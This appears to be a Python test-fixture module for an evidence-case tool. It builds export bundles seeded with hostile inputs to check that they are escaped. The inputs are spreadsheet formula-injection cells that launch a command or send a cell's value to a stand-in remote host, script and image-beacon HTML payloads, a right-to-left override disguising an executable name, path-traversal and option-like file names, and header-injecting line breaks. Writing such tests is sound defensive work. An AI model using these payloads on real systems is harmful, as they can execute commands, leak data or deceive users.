"""Bundles to look at: a small case full of what has gone wrong elsewhere, and the sample case."""

import atexit
import functools
import json
import os
import shlex
import shutil
import subprocess
import tempfile
import zipfile
from pathlib import Path

from program import DONE, FINDINGS, FIRST_TELLING, STRATA, run

MARKING = 'OFFICIAL-SENSITIVE "Larch" – for counsel'
CASE_NAME = "Operation Larch & <b>Ash</b>"
REVERSED = "\u202e"  # shows the letters after it from right to left
REMOTE = "http://elsewhere.example/"

CELLS = {
    "link": f'=HYPERLINK("{REMOTE}?"&A1,"Click")',
    "command": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "wide": "＝1+1",
    "script": "<script>document.title = 'overrun'</script>",
    "image": f'<img src="{REMOTE}seen.png" onerror="document.title = \'overrun\'">',
    "closing": "</td></table></main><h1>Forged</h1>",
    "reversed": f"sent {REVERSED}gpj.exe",
    "arabic": "وصل إلى لندن 12",
    "plain": "Met at the car wash",
}

EVIDENCE_NAMES = ["bank #1 50%?.csv", f"statement{REVERSED}gpj.html", "notes.", "a&b<i>'\".txt", "..\\..\\x.txt", "-rf"]


def kept_until_the_end():
    folder = Path(tempfile.mkdtemp(prefix="strata-bundle-"))
    atexit.register(shutil.rmtree, folder, ignore_errors=True)
    return folder


def tool(name):
    found = shutil.which(name)
    if found is None:
        raise AssertionError(f"{name} is not installed; tests/run installs what the tests need")
    return found


def must(*words, may=(DONE,)):
    answer = run(*words)
    if answer.status not in may:
        raise AssertionError(f"strata {words} gave {answer.status}: {answer.text}{answer.complaint}")
    return answer


def export(case, bundle, marking=MARKING):
    must("export", case, bundle, "--marking", marking)
    return bundle


@functools.cache
def small_bundle():
    """One of everything that a bundle holds, with a hostile cell in each place where a source's words go."""
    folder = kept_until_the_end()
    case = folder / "larch.strata"
    must("create", case, "--name", CASE_NAME, "--reference", "36/16")
    log = folder / "messages.jsonl"
    log.write_text("".join(json.dumps({"timestamp": f"2016-03-{14 + day:02}T09:00:00Z", "message": cell}) + "\n"
                           for day, cell in enumerate(CELLS.values())), encoding="utf-8")
    must("import", case, log, "--exhibit", "AP/1", may=(DONE, FINDINGS))
    for number, name in enumerate(EVIDENCE_NAMES):
        file = folder / "evidence" / name
        file.parent.mkdir(exist_ok=True)
        file.write_text(f"<script>document.title = 'overrun'</script> {number}")
        must("import", case, "--as-exhibit", "--exhibit", f"AP/{number + 2}", file)
    must("person", "add", case, "--name", f"Linh {CELLS['image']}", "--role", "exploited")
    telling = folder / "telling.txt"
    telling.write_text(FIRST_TELLING + CELLS["closing"] + CELLS["script"], encoding="utf-8")
    must("account", "add", case, "--maker", "P01", "--text", telling, "--given", "2017-06", "--form", "MG11",
         "--language", "vi", "--audience", CELLS["script"], "--present", CELLS["reversed"])
    telling.write_text("It was <b>he</b> who took it.", encoding="utf-8")
    must("account", "add", case, "--maker", "P01", "--text", telling, "--revises", "P01/A-01",
         "--form", "translation", "--language", "en")
    must("fact", case, "case.stage", "precharge")
    must("offence", case, "msa2015_s1_labour")
    return export(case, folder / "larch.zip")


@functools.cache
def sample_bundle():
    """The sample case, made by its own steps."""
    folder = kept_until_the_end()
    case = folder / "sample.strata"
    steps = Path(__file__).parents[2] / "resources/sample-case/steps"
    for line in steps.read_text(encoding="utf-8").splitlines():
        words = [word.replace("$CASE", str(case)) for word in shlex.split(line, comments=True)]
        if not words:
            continue
        ran = subprocess.run([STRATA, *words[1:]], cwd=steps.parent, stdin=subprocess.DEVNULL,
                             capture_output=True, timeout=120)
        if ran.returncode not in (DONE, FINDINGS):
            raise AssertionError(f"{line}\n{ran.stderr.decode()}")
    return export(case, folder / "sample.zip")


@functools.cache
def strangely_named_bundle():
    """The small case with a marking that tries to write lines of its own on the cover."""
    folder = small_bundle().parent
    return export(folder / "larch.strata", folder / "Ünï (1) for Mr O'Neil.zip",
                  "OFFICIAL\r\nPayload-Oxum: 0.0\rLedger-Head: none\n\tfolded")


@functools.cache
def unpacked(bundle):
    folder = kept_until_the_end()
    with zipfile.ZipFile(bundle) as archive:
        archive.extractall(folder)
    top, = os.listdir(folder)
    return folder / top
